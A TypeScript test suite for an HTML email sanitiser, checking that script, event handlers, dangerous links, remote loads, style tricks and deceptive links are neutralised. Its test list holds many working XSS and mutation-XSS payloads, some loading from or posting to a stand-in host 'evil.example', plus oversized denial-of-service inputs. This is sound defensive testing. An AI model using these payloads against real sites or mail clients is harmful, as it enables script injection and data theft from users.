// @vitest-environment jsdom
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { filterStyle } from './mailStyle.ts'
import { mismatch } from './mailLink.ts'
import { sanitizeMail } from './sanitizeMail.ts'

/** Any text at all, lone surrogates too. */
const anyText = (maxLength = 40) =>
  fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength }).map((codes) => String.fromCharCode(...codes))

const options = { allowRemoteImages: false, cidUrl: (cid: string) => (cid === 'logo@x' ? '/api/v1/attachments/7/inline' : null) }
const clean = (html: string, allowRemoteImages = false) => sanitizeMail(html, { ...options, allowRemoteImages }).html

/** Everything by which a browser could run, load or send something, looked for in the document that it would build. */
function dangers(html: string, imagesAllowed: boolean): string[] {
  const document = new DOMParser().parseFromString(`<!doctype html><body>${html}</body>`, 'text/html')
  const found: string[] = []
  for (const element of document.body.querySelectorAll('*')) {
    const name = element.localName
    if (
      /^(?:script|style|link|meta|base|iframe|frame|frameset|object|embed|applet|svg|math|form|input|button|select|textarea|template|audio|video|source|track|portal|noscript|xmp|title|dialog|slot|canvas|marquee)$/.test(
        name,
      ) ||
      name.includes('-')
    )
      found.push(`<${name}>`)
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`namespace of ${name}`)
    for (const { name: attribute, value } of element.attributes) {
      if (
        /^on|^(?:srcdoc|srcset|action|formaction|background|poster|ping|id|name|class|xlink:href|is|contenteditable|autofocus|tabindex|accesskey)$/.test(
          attribute,
        )
      )
        found.push(`${name} ${attribute}`)
      // eslint-disable-next-line no-control-regex -- as browsers read addresses
      const address = value.replaceAll(/[\x00-\x20]/g, '').toLowerCase()
      if (attribute === 'href' && !/^(?:https?:\/\/|mailto:|tel:|sms:)/.test(address)) found.push(`href ${value}`)
      if (attribute === 'src' && !/^\/api\/v1\/attachments\/7\/inline$|^data:image\/(?:png|gif|jpe?g|webp|bmp);base64,/.test(address)) {
        if (!imagesAllowed || !/^https?:\/\//.test(address)) found.push(`src ${value}`)
      }
      if (attribute === 'style' && /url|expression|javascript|@import|position|behavior|binding|\\|\/\*|image|var\(|attr\(/i.test(value))
        found.push(`style ${value}`)
    }
    if (
      name === 'a' &&
      element.hasAttribute('href') &&
      (element.getAttribute('target') !== '_blank' || !element.getAttribute('rel')?.includes('noopener'))
    )
      found.push('link without rel')
  }
  return found
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror  =  "alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`x` onerror=`alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/api/v1/session">x</a>',
  '<a href="?x=1" ping="https://evil.example">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1) background="https://evil.example/x.png">x</body>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>',
  '<style>*{background:url(https://evil.example)}</style><p>x',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-image:url(https://evil.example/pixel)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#x);behavior:url(x.htc)">x</p>',
  '<p style="color:red;/*</style><script>alert(1)</script>*/">x</p>',
  '<p style="backg\\round:u\\rl(https://evil.example)">x</p>',
  '<p style="font-family:\'x;background:url(https://evil.example)\'">x</p>',
  '<p style="margin-top:-500px;color:#fff">x</p>',
  '<div style="@import url(https://evil.example)">x</div>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="https://evil.example/x.png 1x" src="https://evil.example/x.png">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<img src="cid:unknown">',
  '<img src="/api/v1/me">',
  '<table background="https://evil.example/x.png"><td background="javascript:alert(1)">x</table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><script>alert(1)</script>',
  '<plaintext><script>alert(1)</script>',
  '<p id=location name=cookie class=hidden>x</p><a name=body>x</a><img name=createElement>',
  '<x-widget onclick=alert(1)>x</x-widget><p is=x-p>x',
  '<p contenteditable tabindex=0 accesskey=x onfocus=alert(1)>x',
  '<b <script>alert(1)</script>0',
  '<<script>alert(1);//<</script>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '"><img src=x onerror=alert(1)>',
  '<p>\0<scr\0ipt>alert(1)</scr\0ipt>',
  '<font color="red" onclick="x" size="7">x</font>',
  '<a href="https://x.example/" target="_self" rel="opener">x</a>',
]

describe('HTML mail is sanitised', () => {
  test.each(attacks)('nothing runs, loads or is sent: %s', (attack) => {
    const around = [
      attack,
      `<div><table><tr><td>${attack}`,
      `${attack}${attack}`,
      `<p title='${attack}'>x</p>`,
      `<p>x</p><blockquote>${attack}</blockquote>`,
    ]
    for (const images of [false, true]) expect(dangers(around.map((html) => clean(html, images)).join('<hr>'), images)).toEqual([])
  })

  test('whatever is mangled', () => {
    const pieces = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '`',
        '=',
        '/',
        '&',
        '&lt;',
        '&#60;',
        '<!--',
        '-->',
        '<p',
        ' style=',
        ' href=',
        ' src=',
        '<a ',
        '<img ',
        '</',
        ' ',
        '\0',
        '<svg',
        '<math',
        '<table>',
        '<style>',
        '</style>',
        'javascript:',
        'url(',
        '<blockquote>',
        'data-quote="end"',
      ),
      anyText(8),
    )
    const mangled = fc
      .array(fc.tuple(pieces, fc.nat(40), fc.nat(40)), { minLength: 1, maxLength: 12 })
      .map((parts) =>
        parts
          .map(([piece, from, cut]) =>
            cut % 3 === 0 ? piece.slice(from % (piece.length + 1)) : cut % 3 === 1 ? piece.slice(0, from) : piece,
          )
          .join(''),
      )
    fc.assert(
      fc.property(mangled, fc.boolean(), (html, images) => {
        const once = clean(html, images)
        expect(dangers(once, images)).toEqual([])
        expect(once).not.toMatch(/\0/)
      }),
      { numRuns: 250 },
    )
  }, 60_000)

  test('what people write stays', () => {
    const html =
      '<h1 style="color:#333;font-family:Arial, sans-serif">Hello</h1><p align="center" dir="rtl"><b>b</b> <i>i</i> <a href="https://x.example/?a=1&amp;b=2">x</a></p><table border="1" bgcolor="#eee"><tr><td colspan="2">1</td></tr></table><ul><li>a</li></ul><blockquote>q</blockquote>'
    const out = clean(html)
    for (const kept of [
      'color:#333;font-family:Arial, sans-serif',
      'align="center" dir="rtl"',
      'bgcolor="#eee"',
      'colspan="2"',
      '<li>a</li>',
      'href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow"',
    ])
      expect(out).toContain(kept)
  })

  test('styles: looks stay, what moves, covers or loads goes', () => {
    expect(filterStyle('color: red; position: absolute; font-size:12px !important; background: #fff url(x)')).toBe(
      'color:red;font-size:12px !important',
    )
    expect(filterStyle('mso-line-height-rule:exactly;margin:0cm 0cm 8pt;border:none;border-top:solid #E1E1E1 1.0pt')).toBe(
      'margin:0cm 0cm 8pt;border:none;border-top:solid #E1E1E1 1.0pt',
    )
    expect(filterStyle('display:grid;display:none;color:rgb(1, 2, 3);color:var(--x);margin:-4px')).toBe('display:none;color:rgb(1, 2, 3)')
  })

  test('what style sheets within the mail say is kept on its elements, never as a sheet', () => {
    const sheet =
      '<style><!-- /* p { color: blue } */ @font-face { font-family: x; src: url(https://evil.example) } @media screen { p { color: black } } p.MsoNormal, li.MsoNormal { margin: 0cm; mso-style: x; background: url(https://evil.example/p) } .red { color: red } p { font-size: 11pt } a:link { color: green } #x, div p { color: pink } --></style>'
    const out = clean(`${sheet}<p class="MsoNormal red" style="color:#123">a</p><p>b</p><div><a href="https://x.example">c</a></div>`)
    expect(out).toBe(
      '<p style="font-size:11pt;color:red;margin:0cm;color:#123">a</p><p style="font-size:11pt">b</p><div><a href="https://x.example" target="_blank" rel="noopener noreferrer nofollow">c</a></div>',
    )
    expect(clean('<!--[if mso]><style>p { color: red }</style><![endif]--><p>a</p>')).toBe('<p>a</p>')
    for (const broken of [
      '<style>p { color: red',
      '<style',
      '<style>',
      '<style>p{{{{color:red}}}}</style>',
      '<style>/* p {color:red}</style>',
      '<style>} p { color: red }</style>',
    ])
      expect(dangers(clean(`${broken}<p>a</p>`), false)).toEqual([])
  })

  test('remote images are blocked and counted until allowed; images of the mail itself are shown', () => {
    const html =
      '<img src="https://a.example/1.png" alt="Logo"><img src="//a.example/2.png"><img src="cid:logo@x"><img src="data:image/png;base64,AAAA">'
    const blocked = sanitizeMail(html, options)
    expect(blocked.blockedRemoteImages).toBe(2)
    expect(blocked.html).toContain('alt="Logo" data-src="https://a.example/1.png"')
    expect(blocked.html).toContain('src="/api/v1/attachments/7/inline"')
    expect(blocked.html).toContain('src="data:image/png;base64,AAAA"')
    const shown = sanitizeMail(html, { ...options, allowRemoteImages: true })
    expect(shown.blockedRemoteImages).toBe(0)
    expect(shown.html).toContain('src="https://a.example/1.png" referrerpolicy="no-referrer"')
    expect(shown.html).toContain('src="https://a.example/2.png"')
    const fetched = sanitizeMail(html, { ...options, allowRemoteImages: true, remoteUrl: (n) => `/api/v1/activities/5/images/${n}` })
    expect(fetched.html).toContain('src="/api/v1/activities/5/images/1"')
    expect(fetched.html).not.toContain('a.example')
    expect(fetched.remoteImages).toEqual(['https://a.example/1.png', 'https://a.example/2.png'])
  })

  test.each([
    ['https://bank.example/login', 'https://evil.example/', 'evil.example'],
    ['www.bank.example', 'http://bank.example.evil.com/x', 'bank.example.evil.com'],
    ['bank.example', 'https://bank.example/x', null],
    ['www.bank.example', 'https://login.bank.example', null],
    ['https://bank.example', 'https://www.bank.example/', null],
    ['Click here', 'https://evil.example', null],
    ['report.pdf', 'https://files.example/report.pdf', null],
    ['jane@bank.example', 'mailto:jane@bank.example', null],
    ['münchen.example', 'https://xn--mnchen-3ya.example/', null],
  ])('links are marked when text and target differ: %s to %s', (text, href, host) => expect(mismatch(text, href)).toBe(host))
  test('the mark stands on the link', () => {
    const { html, mismatchedLinks } = sanitizeMail(
      '<a href="https://evil.example/?a=1&b"><b>https://bank.example</b></a> <a href="https://bank.example">bank.example</a>',
      options,
    )
    expect(mismatchedLinks).toBe(1)
    expect(html).toContain('data-mismatch="evil.example"><b>https://bank.example</b>')
  })

  test.each([
    ['deep nesting', '<div>'.repeat(200_000)],
    ['unclosed tags', '<b><i><font>'.repeat(60_000)],
    ['tags without an end', '<a '.repeat(300_000)],
    ['half open', '<'.repeat(500_000)],
    ['many links', '<a href="https://a.example">b.example</a>'.repeat(10_000)],
    ['links within links', '<a href="https://a.example">'.repeat(20_000)],
    ['attributes', `<p ${'a=b '.repeat(100_000)}>`],
    ['one style', `<p style="${'color:red;'.repeat(100_000)}">`],
    ['quotes in quotes', '<blockquote>x'.repeat(50_000)],
    ['entities', '&lt;'.repeat(200_000)],
    ['cells', '<td><p>'.repeat(50_000)],
    ['empty blocks', '<div></div>'.repeat(60_000)],
    ['a sheet for everything', `<style>${'p { color: red; font-family: Arial }'.repeat(5_000)}</style>${'<p>x</p>'.repeat(50_000)}`],
    ['sheets without number', '<style>p{color:red}</style>'.repeat(20_000)],
    ['a sheet of comments', `<style>${'/*'.repeat(100_000)}${'@media{'.repeat(10_000)}`],
    ['marks of quotes', '<div class="moz-cite-prefix"></div><div class="yahoo_quoted"></div>'.repeat(15_000)],
    ['attributions', '<p>On Monday Jane wrote:</p>'.repeat(20_000)],
  ])(
    'a hostile document takes no time: %s',
    (_, html) => {
      const before = process.cpuUsage()
      clean(html)
      const { user } = process.cpuUsage(before)
      expect(user / 1000).toBeLessThan(4_000)
    },
    30_000,
  )
})
